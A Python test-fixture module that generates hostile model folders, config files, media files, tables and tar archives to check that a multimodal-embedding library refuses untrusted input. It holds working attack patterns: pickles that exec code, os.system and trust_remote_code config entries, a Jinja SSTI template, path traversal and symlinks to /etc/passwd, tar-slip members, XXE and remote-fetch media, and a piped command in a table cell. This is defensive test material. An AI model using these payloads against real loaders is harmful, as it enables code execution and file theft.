"""Folders, tables and tars that try to run code, to write elsewhere or to call somebody: what torture_hostile opens."""

import io
import json
import pickle
import shutil
import tarfile
import warnings
import zipfile
from collections.abc import Callable, Iterator
from hashlib import sha256
from pathlib import Path
from typing import Any, NamedTuple

TOKEN = "FOREIGN_CODE"  # in every payload's source, so that it is known wherever it is compiled


class Case(NamedTuple):
    """One hostile folder.

    Attributes:
        name: what it tries.
        way: how it is opened, a key of WAYS.
        make: fills the folder; returns what is opened, if it is not the folder itself.
        kind: of the items, for encoders.
    """

    name: str
    way: str
    make: Callable[[Path, "Bait"], Any]
    kind: str = "text"


class Bait:
    """What the folders are made from: healthy folders, and payloads that leave a mark when they run."""

    def __init__(self, root: Path, address: str) -> None:
        self.root, self.marks, self.outside, self.address = root, root / "marks", root / "outside", address
        for folder in (self.marks, self.outside):
            folder.mkdir(parents=True, exist_ok=True)
        (self.outside / "secret.txt").write_text("secret")
        self.name = ""

    def code(self) -> str:
        """Python source that leaves a mark, in a module that has whatever name is looked for."""
        return (
            f"{TOKEN} = open({str(self.marks / self.name)!r}, 'w').close()\n"
            "class EvilModel:\n    def __init__(self, *a, **k): pass\n"
            "    @classmethod\n    def from_pretrained(cls, *a, **k): return cls()\n"
            "EvilConfig = EvilTokenizer = EvilProcessor = EvilModule = EvilModel\n"
            "def encode(items): return [[1.0]] * len(items)\n"
        )

    def pickle(self, protocol: int = 2) -> bytes:
        """A pickle that runs that source."""
        return pickle.dumps(Payload(self.code()), protocol)

    def copy(self, healthy: str, folder: Path) -> Path:
        """Fill the folder with a healthy one."""
        shutil.copytree(self.root / "healthy" / healthy, folder, dirs_exist_ok=True)
        return folder


class Payload:
    """An object whose pickle runs code."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return exec, (self.code,)


# ---- healthy folders -------------------------------------------------------------------------------------------------


def make_healthy(root: Path) -> None:
    """Save tiny models of each kind, a table of pictures and texts, latents, a fitted model and its index."""
    import numpy as np
    import torch
    import transformers as hf
    from PIL import Image
    from tokenizers import Tokenizer, models, pre_tokenizers

    import fusemix as fm

    torch.manual_seed(0)
    small = {"hidden_size": 16, "num_hidden_layers": 1, "num_attention_heads": 2, "intermediate_size": 16}
    words = {word: i for i, word in enumerate(["[PAD]", "[UNK]", "a", "red", "kite", *map(str, range(12))])}
    tokenizer = Tokenizer(models.WordLevel(words, unk_token="[UNK]"))
    tokenizer.pre_tokenizer = pre_tokenizers.Whitespace()
    hf.BertModel(hf.BertConfig(**small, vocab_size=len(words))).save_pretrained(root / "text")
    hf.PreTrainedTokenizerFast(tokenizer_object=tokenizer, pad_token="[PAD]").save_pretrained(root / "text")
    hf.ViTModel(hf.ViTConfig(**small, image_size=16, patch_size=8)).save_pretrained(root / "image")
    hf.ViTImageProcessorPil(size={"height": 16, "width": 16}).save_pretrained(root / "image")
    sound = {"conv_dim": (8,), "conv_kernel": (10,), "conv_stride": (5,), "num_feat_extract_layers": 1}
    position = {"num_conv_pos_embeddings": 4, "num_conv_pos_embedding_groups": 2}
    hf.Wav2Vec2Model(hf.Wav2Vec2Config(**small, **sound, **position)).save_pretrained(root / "audio")
    hf.Wav2Vec2FeatureExtractor().save_pretrained(root / "audio")
    (root / "data").mkdir()
    rng, rows = np.random.default_rng(0), ["image,text"]
    for i in range(12):
        Image.fromarray(rng.integers(0, 255, (16, 16, 3), dtype=np.uint8)).save(root / "data" / f"{i}.png")
        rows.append(f"{i}.png,a red kite number {i}")
    (root / "data" / "table.csv").write_text("\n".join(rows) + "\n")
    pairs = fm.read_pairs(root / "data" / "table.csv", image="image", text="text")
    latents = fm.extract(pairs, image=str(root / "image"), text=str(root / "text"), out=root / "latents")
    model = fm.FuseMix(dim=4, depth=0, epochs=1).fit(latents)
    model.save(root / "model")
    model.index(latents["image"]).save(root / "index")


# ---- hostile folders -------------------------------------------------------------------------------------------------

WEIGHTS = (
    "pytorch_model.bin", "model.pt", "model.pth", "model.ckpt", "model.pkl", "model.pickle", "model.joblib",
    "model.npy", "model.npz", "model.h5", "tf_model.h5", "flax_model.msgpack", "model.onnx", "model.safetensors",
    "adapter_model.bin", "training_args.bin", "optimizer.pt",
)  # fmt: skip
KINDS = ("text", "image", "audio")


def edit(path: Path, **values: Any) -> None:
    """Change fields of a JSON file; make it where there is none."""
    content = json.loads(path.read_text()) if path.exists() else {}
    path.write_text(json.dumps({**content, **values}))


def weights_cases() -> Iterator[Case]:
    """Pickles under every extension, beside the weights or in their place."""
    for kind in KINDS:
        for name in WEIGHTS:

            def make(folder: Path, bait: Bait, kind: str = kind, name: str = name) -> None:
                bait.copy(kind, folder)
                (folder / "model.safetensors").unlink()
                (folder / name).write_bytes(bait.pickle())

            yield Case(f"a pickle called {name} in place of the {kind} weights", "encoder", make, kind)

    def beside(folder: Path, bait: Bait) -> None:
        bait.copy("text", folder)
        for name in WEIGHTS:
            if name not in ("model.safetensors", "model.onnx"):
                (folder / name).write_bytes(bait.pickle())

    yield Case("pickles under every name beside the weights", "encoder", beside)
    for number, target in enumerate(("pytorch_model.bin", "../../outside/evil.bin", "/etc/passwd", "evil.py")):

        def index(folder: Path, bait: Bait, target: str = target, number: int = number) -> None:
            bait.copy("text", folder)
            (folder / "model.safetensors").unlink()
            (bait.outside / "evil.bin").write_bytes(bait.pickle())
            (folder / "pytorch_model.bin").write_bytes(bait.pickle())
            (folder / "evil.py").write_text(bait.code())
            kind = "model.safetensors" if number % 2 else "pytorch_model.bin"
            edit(folder / f"{kind}.index.json", metadata={}, weight_map={"embeddings.word_embeddings.weight": target})

        yield Case(f"an index of weights that names {target}", "encoder", index)


AUTO = {"AutoConfig": "evil.EvilConfig", "AutoModel": "evil.EvilModel", "AutoTokenizer": ["evil.EvilTokenizer", None],
        "AutoImageProcessor": "evil.EvilProcessor", "AutoFeatureExtractor": "evil.EvilProcessor",
        "AutoProcessor": "evil.EvilProcessor"}  # fmt: skip
REMOTE = {key: f"evil/repository--{value}" for key, value in AUTO.items() if isinstance(value, str)}
TRUST = {"trust_remote_code": True}
# Fields of config.json, in a folder that also holds evil.py.
CONFIGS: dict[str, dict[str, Any]] = {
    "auto_map": {"auto_map": AUTO},
    "auto_map with trust_remote_code": {"auto_map": AUTO, **TRUST},
    "auto_map and an unknown model_type": {"auto_map": AUTO, "model_type": "evil", **TRUST},
    "auto_map and no model_type": {"auto_map": AUTO, "model_type": None, **TRUST},
    "auto_map to a repository": {"auto_map": REMOTE, **TRUST},
    "auto_map to a repository, unknown model_type": {"auto_map": REMOTE, "model_type": "evil", **TRUST},
    "auto_map with a path": {"auto_map": {"AutoConfig": "../evil.EvilConfig", "AutoModel": "/tmp/evil.EvilModel"}},
    "trust_remote_code in text_config": {
        "model_type": "clip",
        "text_config": {"auto_map": AUTO, **TRUST},
        "vision_config": {},
    },
    "trust_remote_code in a backbone": {
        "model_type": "upernet",
        "backbone_config": {"model_type": "evil", "auto_map": AUTO, **TRUST},
    },
    "a backbone of the hub": {"model_type": "upernet", "backbone": "evil/repository", "use_pretrained_backbone": True},
    "a timm backbone": {"model_type": "timm_backbone", "backbone": "resnet18", "use_pretrained_backbone": True},
    "a timm wrapper": {"model_type": "timm_wrapper", "architecture": "hf-hub:evil/repository"},
    "an encoder and a decoder": {
        "model_type": "vision-encoder-decoder",
        "encoder": {"model_type": "evil", "auto_map": AUTO, **TRUST},
        "decoder": {"model_type": "evil", "auto_map": AUTO},
    },
    "_target_": {"_target_": "os.system", "command": "touch evil", "hidden_act": {"_target_": "builtins.exec"}},
    "class names as settings": {
        "hidden_act": "evil.EvilModel",
        "architectures": ["evil.EvilModel"],
        "auto_class": "evil",
    },
    "code as a dtype": {"dtype": "__import__('evil')", "torch_dtype": "evil"},
    "code as an activation": {"hidden_act": "__import__('evil').EvilModel"},
    "a kernel of the hub": {
        "_attn_implementation": "evil/kernel",
        "attn_implementation": "evil/kernel",
        "_attn_implementation_internal": "evil/kernel",
    },
    "a kernel of the hub with a function": {
        "_attn_implementation": "evil/kernel@main:evil",
        "use_kernels": True,
        "kernel_config": {"Linear": "evil/kernel:Evil"},
    },
    "foreign quantisation": {
        "quantization_config": {"quant_method": "evil", "modules": "evil", "auto_map": AUTO, **TRUST}
    },
    "known quantisation": {
        "quantization_config": {"quant_method": "gptq", "bits": 4, "dataset": "evil", "tokenizer": "../evil"}
    },
    "quantisation by torchao": {
        "quantization_config": {
            "quant_method": "torchao",
            "quant_type": {"default": {"_type": "evil.EvilModel", "_data": {}}},
        }
    },
    "a custom pipeline": {"custom_pipelines": {"feature-extraction": {"impl": "evil.EvilModel", "pt": ["AutoModel"]}}},
    "a name or path elsewhere": {
        "_name_or_path": "../../outside",
        "name_or_path": "evil/repository",
        "_commit_hash": "../..",
    },
    "yaml and python objects": {
        "py/object": "evil.EvilModel",
        "py/reduce": [{"py/type": "os.system"}, {"py/tuple": ["touch evil"]}],
    },
    "a generator": {
        "model_type": "rag",
        "question_encoder": {"model_type": "dpr"},
        "generator": {"model_type": "bart"},
        "use_dummy_dataset": True,
        "dataset": "evil",
        "passages_path": "evil.py",
    },
}
TOKENIZERS: dict[str, dict[str, Any]] = {
    "a foreign class": {
        "tokenizer_class": "EvilTokenizer",
        "auto_map": {"AutoTokenizer": ["evil.EvilTokenizer", "evil.EvilTokenizer"]},
    },
    "a foreign class, trusted": {
        "tokenizer_class": "EvilTokenizer",
        "auto_map": {"AutoTokenizer": ["evil.EvilTokenizer", None]},
        **TRUST,
    },
    "a foreign class of a repository": {
        "tokenizer_class": "EvilTokenizer",
        "auto_map": {"AutoTokenizer": ["evil/repository--evil.EvilTokenizer", None]},
        **TRUST,
    },
    "a class with a module": {"tokenizer_class": "evil.EvilTokenizer"},
    "a class of Python": {"tokenizer_class": "os.system"},
    "TransfoXL and its pickled vocabulary": {
        "tokenizer_class": "TransfoXLTokenizer",
        "pretrained_vocab_file": "vocab.pkl",
    },
    "RAG": {"tokenizer_class": "RagTokenizer"},
    "Jieba and SentencePiece": {"tokenizer_class": "CpmTokenizer", "vocab_file": "../../outside/secret.txt"},
    "files elsewhere": {
        "vocab_file": "/etc/passwd",
        "tokenizer_file": "../../outside/secret.txt",
        "added_tokens_file": "evil.py",
    },
    "a chat template": {"chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}{% include '/etc/passwd' %}"},
    "backend code": {"backend": "evil", "tokenizer_type": "evil", "model_specific_special_tokens": {"evil": "evil"}},
}
PROCESSORS: dict[str, dict[str, Any]] = {
    "a foreign class": {"image_processor_type": "EvilProcessor", "feature_extractor_type": "EvilProcessor"},
    "auto_map": {
        "auto_map": {"AutoImageProcessor": "evil.EvilProcessor", "AutoFeatureExtractor": "evil.EvilProcessor"},
        **TRUST,
    },
    "auto_map of a repository": {"auto_map": {"AutoImageProcessor": "evil/repository--evil.EvilProcessor"}, **TRUST},
    "a class with a module": {"image_processor_type": "evil.EvilProcessor", "processor_class": "evil.EvilProcessor"},
    "_target_": {
        "_target_": "evil.EvilModel",
        "do_resize": {"_target_": "os.system"},
        "size": {"_target_": "os.system"},
    },
}


def settings_cases() -> Iterator[Case]:
    """Settings that name code: of the model, the tokenizer and the processor."""
    files = {"config.json": CONFIGS, "tokenizer_config.json": TOKENIZERS, "preprocessor_config.json": PROCESSORS}
    for file, table in files.items():
        kinds = {"config.json": ("text", "image"), "tokenizer_config.json": ("text",)}.get(file, ("image", "audio"))
        for name, values in table.items():
            for kind in kinds:

                def make(
                    folder: Path, bait: Bait, values: dict[str, Any] = values, kind: str = kind, file: str = file
                ) -> None:
                    bait.copy(kind, folder)
                    edit(folder / file, **values)
                    scatter(folder, bait)

                yield Case(f"{file} of a model for {kind} with {name}", "encoder", make, kind)


def scatter(folder: Path, bait: Bait) -> None:
    """Leave code and pickles where loaders may look for them."""
    for name in ("evil.py", "__init__.py", "modeling_evil.py", "tokenization_evil.py", "custom_generate/generate.py",
                 "sitecustomize.py", "conftest.py", "torch.py", "setup.py"):  # fmt: skip
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text(bait.code())
    (folder / "evil").mkdir(exist_ok=True)
    (folder / "evil" / "__init__.py").write_text(bait.code())
    for name in ("vocab.pkl", "vocab.bin", "spm.pkl", "cached.pickle"):
        (folder / name).write_bytes(bait.pickle())
    (folder / "requirements.txt").write_text("evil @ http://" + bait.address + "/evil.zip\n")


SENTENCE: dict[str, Any] = {
    "a foreign class": "evil.EvilModule",
    "a foreign class of a package": "sentence_transformers.models.Evil",
    "a relative class": "..evil.EvilModule",
    "os.system": "os.system",
    "a class of the folder": "modeling_evil.EvilModule",
    "a repository": "evil/repository--evil.EvilModule",
    "a list": ["evil", "EvilModule"],
    "nothing": None,
}


def sentence_cases() -> Iterator[Case]:
    """Folders of sentence-transformers: classes by name, activations by name, paths elsewhere."""
    head = [{"idx": 0, "path": "", "type": "sentence_transformers.models.Transformer"},
            {"idx": 1, "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]  # fmt: skip

    def write(folder: Path, bait: Bait, modules: Any, **files: Any) -> None:
        bait.copy("text", folder)
        scatter(folder, bait)
        (folder / "1_Pooling").mkdir()
        edit(folder / "1_Pooling" / "config.json", pooling_mode_mean_tokens=True)
        (folder / "modules.json").write_text(json.dumps(modules))
        for name, values in files.items():
            edit(folder / f"{name}.json", **values)

    for name, kind in SENTENCE.items():
        for place in (0, 2):
            modules = [*head]
            modules[place : place + 1] = [{"idx": place, "path": "2_Evil", "type": kind}]
            yield Case(f"modules.json with {name} in place {place}", "encoder", lambda f, b, m=modules: write(f, b, m))
    for path in ("../../outside", "/etc", "evil.py", "\0"):
        modules = [{**head[0], "path": path}, {**head[1], "path": path}]
        yield Case(f"modules.json with the path {path!r}", "encoder", lambda f, b, m=modules: write(f, b, m))
    for activation in ("evil.EvilModule", "builtins.exec", "os.system", "torch.load", "torch.nn.modules.evil"):

        def dense(folder: Path, bait: Bait, activation: str = activation) -> None:
            write(folder, bait, [*head, {"idx": 2, "path": "2_Dense", "type": "sentence_transformers.models.Dense"}])
            (folder / "2_Dense").mkdir()
            edit(
                folder / "2_Dense" / "config.json",
                in_features=16,
                out_features=4,
                bias=True,
                activation_function=activation,
            )
            (folder / "2_Dense" / "pytorch_model.bin").write_bytes(bait.pickle())

        yield Case(f"a Dense layer with the activation {activation}", "encoder", dense)
    extra = {
        "model_args": TRUST,
        "config_args": TRUST,
        "tokenizer_args": TRUST,
        "model_kwargs": {"code_revision": "evil"},
    }
    for name in ("sentence_bert_config", "config_sentence_transformers"):
        yield Case(f"{name}.json that trusts code", "encoder", lambda f, b, n=name: write(f, b, head, **{n: extra}))
    adapter = {"peft_type": "LORA", "base_model_name_or_path": "../../outside", **TRUST,
               "auto_mapping": {"base_model_class": "EvilModel", "parent_library": "evil"}}  # fmt: skip
    yield Case("adapter_config.json", "encoder", lambda f, b: write(f, b, head, adapter_config=adapter))


def link_cases() -> Iterator[Case]:
    """Links and names that lead out of the folder."""
    targets = {"the secret": "../../outside/secret.txt", "a pickle": "../../outside/evil.bin", "/dev/zero": "/dev/zero",
               "itself": "LOOP", "a folder": "../../outside"}  # fmt: skip
    for file in ("config.json", "model.safetensors", "tokenizer.json"):
        for name, target in targets.items():
            if target == "/dev/zero" and file != "model.safetensors":
                continue  # an endless text is a question of memory, not of code

            def make(folder: Path, bait: Bait, file: str = file, target: str = target) -> None:
                bait.copy("text", folder)
                (bait.outside / "evil.bin").write_bytes(bait.pickle())
                (folder / file).unlink()
                (folder / file).symlink_to(file if target == "LOOP" else target)

            yield Case(f"{file} as a link to {name}", "encoder", make)


def onnx_cases() -> Iterator[Case]:
    """ONNX files with weights elsewhere, and pickles that are called so."""
    import numpy as np
    import onnx

    def graph(folder: Path, bait: Bait, location: str | None, domain: str = "", meta: str = "") -> None:
        bait.copy("image", folder)
        (folder / "model.safetensors").unlink()
        make, kind = onnx.helper, onnx.TensorProto.FLOAT
        weight = onnx.numpy_helper.from_array(np.ones((768, 4), np.float32), "w")
        (bait.outside / "w.bin").write_bytes(weight.raw_data)
        if location is not None:
            onnx.external_data_helper.set_external_data(weight, location)
            weight.ClearField("raw_data")
            (folder / "link.bin").symlink_to(bait.outside / "w.bin")
        nodes = [
            make.make_node("Flatten", ["pixel_values"], ["flat"]),
            make.make_node("MatMul", ["flat", "w"], ["image_embeds"]),
        ]
        if domain:
            nodes.append(
                make.make_node(
                    "Evil",
                    ["flat"],
                    ["more"],
                    domain=domain,
                    library="./evil.so",
                    ep_cache_context="../../outside/secret.txt",
                )
            )
        given = make.make_tensor_value_info("pixel_values", kind, ["n", 3, 16, 16])
        body = make.make_graph(
            nodes, "g", [given], [make.make_tensor_value_info("image_embeds", kind, ["n", 4])], [weight]
        )
        model = make.make_model(
            body, opset_imports=[make.make_opsetid("", 17), make.make_opsetid(domain or "x", 1)], ir_version=9
        )
        onnx.helper.set_model_props(model, {"ort_config": meta, "custom_op_library": "./evil.so"})
        (folder / "model.onnx").write_bytes(model.SerializeToString())
        (folder / "evil.so").write_bytes(b"\x7fELF evil")

    for location in (
        "../../outside/w.bin",
        "sub/../../../outside/w.bin",
        "OUTSIDE",
        "link.bin",
        "",
        "/dev/zero",
        "\0",
        "evil.py",
    ):
        yield Case(
            f"an ONNX file with weights in {location!r}", "encoder",
            lambda f, b, x=location: graph(f, b, str(b.outside / "w.bin") if x == "OUTSIDE" else x), "image",
        )  # fmt: skip
    for domain in ("evil", "com.microsoft", "ai.onnx.contrib"):
        yield Case(f"an ONNX operator of {domain}", "encoder", lambda f, b, d=domain: graph(f, b, None, d), "image")
    profile = '{"session_options": {"enable_profiling": true}}'
    yield Case("an ONNX file with settings", "encoder", lambda f, b: graph(f, b, None, meta=profile), "image")


def library_cases() -> Iterator[Case]:
    """Specs of libraries that lead to folders."""
    for library in ("timm:{}", "timm:{}/pytorch_model.bin", "open_clip:ViT-B-32/{}", "open_clip:ViT-B-32/{}/x.pt"):

        def make(folder: Path, bait: Bait, library: str = library) -> str:
            scatter(folder, bait)
            for name in ("pytorch_model.bin", "x.pt", "open_clip_pytorch_model.bin"):
                (folder / name).write_bytes(bait.pickle())
            edit(folder / "config.json", architecture="resnet18", model_args={"checkpoint_path": str(folder / "x.pt")})
            return library.format(folder)

        yield Case(f"{library.format('FOLDER')} with pickles", "encoder", make, "image")


SOURCES = ("FOLDER/evil.py:encode", "evil:encode", "os:system", "FOLDER/evil.py:encode+hog", "timm:FOLDER", "FOLDER",
           "FOLDER/text", "FOLDER/model.onnx", "open_clip:ViT-B-32/FOLDER", "builtins:exec",
           "FOLDER/../NAME/evil.py:encode")  # fmt: skip


def saved_cases() -> Iterator[Case]:
    """Models, latents and indexes of fusemix that name code or hold pickles."""
    for source in SOURCES:

        def make(folder: Path, bait: Bait, source: str = source) -> None:
            bait.copy("model", folder)
            bait.copy("text", folder / "text")
            scatter(folder, bait)
            edit(folder / "text" / "config.json", auto_map=AUTO, **TRUST)
            (folder / "model.onnx").write_bytes(bait.pickle())
            facts = json.loads((folder / "facts.json").read_text())
            for side in facts["sides"].values():
                side["source"] = source.replace("FOLDER", str(folder)).replace("NAME", folder.name)
            edit(folder / "facts.json", sides=facts["sides"])

        yield Case(f"a model whose encoder is {source}", "model", make)
    for way, names in (
        ("model", ("facts.json", "adapters.safetensors", "baselines.safetensors", "seen.safetensors")),
        (
            "index",
            (
                "facts.json",
                *(f"generation-1/{part}" for part in ("embeddings.safetensors", "items.parquet", "model/facts.json")),
            ),
        ),
        (
            "latents",
            ("pairs.parquet", "image/*/facts.json", "image/*/items.parquet", "image/*/shard-00000.safetensors"),
        ),
    ):
        for name in names:

            def replace(folder: Path, bait: Bait, way: str = way, name: str = name) -> None:
                bait.copy(way, folder)
                scatter(folder, bait)
                next(folder.glob(name)).write_bytes(bait.pickle())
                if way == "index" and name != "facts.json":  # who makes a folder makes its checksums, too
                    sums = json.loads((folder / "facts.json").read_text())["sha256"]
                    sums[name.removeprefix("generation-1/")] = sha256(bait.pickle()).hexdigest()
                    edit(folder / "facts.json", sha256=sums)

            yield Case(f"{name} of saved {way} as a pickle", way, replace)
    for target in ("../../outside", "/etc", "text/../../.."):

        def lead(folder: Path, bait: Bait, target: str = target) -> None:
            import pyarrow.parquet

            bait.copy("latents", folder)
            table = pyarrow.parquet.read_table(folder / "pairs.parquet")
            meta = {
                **table.schema.metadata,
                b"fusemix.modalities": f"{target}\ntext".encode(),
                b"fusemix.root": target.encode(),
            }
            pyarrow.parquet.write_table(table.replace_schema_metadata(meta), folder / "pairs.parquet")

        yield Case(f"latents that lead to {target}", "latents", lead)


# ---- hostile data ----------------------------------------------------------------------------------------------------

PICTURES = {
    "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/tmp/evil) (w) file\n",
    "pdf": b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(evil.py)>>>>endobj\n",
    "svg": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;</svg>',
    "mvg": b"push graphic-context\nimage over 0,0 0,0 'https://ADDRESS/x'\npop graphic-context",
    "xpm": b'/* XPM */\nstatic char *evil[] = {"1 1 1 1", "a c #FFF", "a"};\n',
    "pickle": None,
    "python": b"import evil\n",
    "zip": b"PK\x03\x04" + bytes(60),
    "wmf": b"\xd7\xcd\xc6\x9a" + bytes(60),
}
SOUNDS = {
    "a playlist of addresses": "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nhttp://ADDRESS/x.ts\n#EXT-X-ENDLIST\n",
    "a playlist of files": "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n",
    "a list for concat": "ffconcat version 1.0\nfile '/etc/passwd'\nfile 'http://ADDRESS/x.wav'\n",
    "an sdp": "v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=audio 9 RTP/AVP 0\n",
    "a dash manifest": '<?xml version="1.0"?><MPD><Period><BaseURL>http://ADDRESS/</BaseURL></Period></MPD>',
}
MEMBERS: dict[str, Callable[[tarfile.TarInfo], None]] = {
    "..": lambda m: setattr(m, "name", "../../outside/evil.png"),
    "an absolute name": lambda m: setattr(m, "name", "/tmp/fusemix-hostile-evil.png"),
    "a link": lambda m: (
        setattr(m, "type", tarfile.SYMTYPE),
        setattr(m, "linkname", "../../outside/secret.txt"),
        setattr(m, "size", 0),
    ),
    "a hard link": lambda m: (
        setattr(m, "type", tarfile.LNKTYPE),
        setattr(m, "linkname", "/etc/passwd"),
        setattr(m, "size", 0),
    ),
    "a device": lambda m: (setattr(m, "type", tarfile.CHRTYPE), setattr(m, "size", 0)),
    "a pipe": lambda m: (setattr(m, "type", tarfile.FIFOTYPE), setattr(m, "size", 0)),
    "a name with a newline": lambda m: setattr(m, "name", "a\n../evil.png"),
    "a long pax name": lambda m: setattr(m, "name", "../" * 200 + "evil.png"),
}
SUFFIXES = (
    ".pkl",
    ".pickle",
    ".pyd",
    ".pth",
    ".pt",
    ".npy",
    ".npz",
    ".py",
    ".so",
    ".cls",
    ".ten",
    ".json",
    ".txt",
    ".png",
    ".wav",
)


def media_cases() -> Iterator[Case]:
    """Pictures and sounds that are programs, or lists of files and addresses."""
    for name, content in PICTURES.items():

        def picture(folder: Path, bait: Bait, content: bytes | None = content) -> None:
            bait.copy("data", folder)
            raw = bait.pickle() if content is None else content.replace(b"ADDRESS", bait.address.encode())
            for i in range(3):
                (folder / f"{i}.png").write_bytes(raw)

        yield Case(f"pictures that are {name}", "pairs", picture)
    for name, text in SOUNDS.items():
        for suffix in (".wav", ".mp4"):

            def sound(folder: Path, bait: Bait, text: str = text, suffix: str = suffix) -> None:
                rows = ["sound,text"]
                for i in range(3):
                    (folder / f"{i}{suffix}").write_text(text.replace("ADDRESS", bait.address))
                    rows.append(f"{i}{suffix},sound {i}")
                (folder / "table.csv").write_text("\n".join(rows) + "\n")

            yield Case(f"{suffix} files that are {name}", "pairs", sound)


def table_cells() -> Iterator[Case]:
    """Tables that name files and addresses elsewhere."""
    for cell in (
        "../../outside/secret.txt",
        "/etc/passwd",
        "http://ADDRESS/x.png",
        "file:///etc/passwd",
        "|touch evil",
        "x.tar#0+512",
        "\0",
    ):

        def table(folder: Path, bait: Bait, cell: str = cell) -> None:
            bait.copy("data", folder)
            (folder / "table.csv").write_text(
                f"image,text\n{cell.replace('ADDRESS', bait.address)},evil\n0.png,a\n1.png,b\n"
            )

        yield Case(f"a table that names {cell!r}", "pairs", table)


def tar_cases() -> Iterator[Case]:
    """Tars whose members lead elsewhere, or are pickles."""
    for name, change in MEMBERS.items():
        yield Case(f"a tar with {name}", "tar", lambda f, b, c=change: write_tar(f, b, c))
    for suffix in SUFFIXES:
        yield Case(
            f"a tar with {suffix} members that are pickles", "tar", lambda f, b, s=suffix: write_tar(f, b, None, s)
        )


def write_tar(folder: Path, bait: Bait, change: Callable[[tarfile.TarInfo], None] | None, suffix: str = "") -> None:
    """Write a WebDataset tar of healthy pairs, the first picture replaced or a pickle added to each."""
    healthy = bait.root / "healthy" / "data"
    with tarfile.open(folder / "000.tar", "w", format=tarfile.PAX_FORMAT) as tar:
        for i in range(4):
            files = {f"{i}.png": (healthy / f"{i}.png").read_bytes(), f"{i}.txt": f"a red kite {i}".encode()}
            if suffix:
                files[f"{i}{suffix}"] = bait.pickle()
            for name, content in files.items():
                member = tarfile.TarInfo(name)
                member.size = len(content)
                if change and name == "0.png":
                    change(member)
                tar.addfile(member, io.BytesIO(content[: member.size]))


def table_cases() -> Iterator[Case]:
    """Tables whose columns or values are pickles."""
    import pyarrow as pa

    def extension(folder: Path, bait: Bait, suffix: str, name: str) -> Path:
        bait.copy("data", folder)
        meta = {"ARROW:extension:name": name, "ARROW:extension:metadata": bait.pickle(0).decode("latin-1")}
        field = pa.field("text", pa.string(), metadata={k: v.encode("latin-1") for k, v in meta.items()})
        schema = pa.schema(
            [pa.field("image", pa.string()), field],
            metadata={
                b"pandas": bait.pickle(0),
                b"huggingface": b'{"info": {"features": {"text": {"_type": "evil.EvilModel"}}}}',
            },
        )
        rows = pa.table([pa.array([f"{i}.png" for i in range(4)]), pa.array(["a", "b", "c", "d"])], schema=schema)
        path = folder / f"table{suffix}"
        if suffix == ".parquet":
            pa.parquet.write_table(rows, path)
        else:
            with pa.ipc.new_file(path, schema) as writer:
                writer.write_table(rows)
        return path

    for suffix in (".parquet", ".arrow", ".feather"):
        for name in ("arrow.py_extension_type", "evil.EvilModel", "arrow.opaque"):
            yield Case(
                f"a {suffix} table with the extension type {name}",
                "pairs",
                lambda f, b, s=suffix, n=name: extension(f, b, s, n),
            )

    def file(folder: Path, bait: Bait, suffix: str) -> Path:
        bait.copy("data", folder)
        (folder / f"table{suffix}").write_bytes(bait.pickle())
        return folder / f"table{suffix}"

    for suffix in (
        ".csv",
        ".tsv",
        ".jsonl",
        ".parquet",
        ".pkl",
        ".arrow",
        ".npy",
        ".npz",
        ".zip",
        ".xlsx",
        ".tar",
        ".tgz",
    ):
        yield Case(f"a {suffix} table that is a pickle", "pairs", lambda f, b, s=suffix: file(f, b, s))


def vector_cases() -> Iterator[Case]:
    """Files of vectors that are pickles, and a data set with a script."""
    import numpy as np

    def vectors(folder: Path, bait: Bait, form: str) -> Path:
        bait.copy("data", folder)
        path = folder / "vectors.npy"
        if form == "object":
            warnings.simplefilter("ignore")
            np.save(path, np.array([Payload(bait.code())] * 12, dtype=object), allow_pickle=True)
        elif form == "npz":
            with zipfile.ZipFile(path, "w") as archive:
                archive.writestr("../../outside/evil.npy", bait.pickle())
        else:
            header = b"{'descr': __import__('evil'), 'fortran_order': False, 'shape': (12, 4)}"
            content = (
                bait.pickle() if form == "pickle" else b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header
            )
            path.write_bytes(content)
        return path

    for form in ("object", "npz", "pickle", "header"):
        yield Case(f"vectors.npy with {form}", "vectors", lambda f, b, x=form: vectors(f, b, x))

    def saved(folder: Path, bait: Bait) -> None:
        scatter(folder, bait)
        edit(
            folder / "state.json",
            _data_files=[{"filename": "../../outside/evil.arrow"}],
            _format_type="evil",
            _fingerprint="x",
        )
        edit(folder / "dataset_info.json", builder_name="evil", features={"text": {"_type": "evil.EvilModel"}})
        (folder / f"{folder.name}.py").write_text(bait.code())

    yield Case("a folder of the datasets library with a script", "pairs", lambda f, b: saved(f, b) or f)


def all_cases() -> list[Case]:
    """Return every case, in a fixed order."""
    media = (media_cases, table_cells, tar_cases, table_cases, vector_cases)
    models = (weights_cases, settings_cases, sentence_cases, link_cases, onnx_cases, library_cases, saved_cases)
    return [case for maker in (*models, *media) for case in maker()]
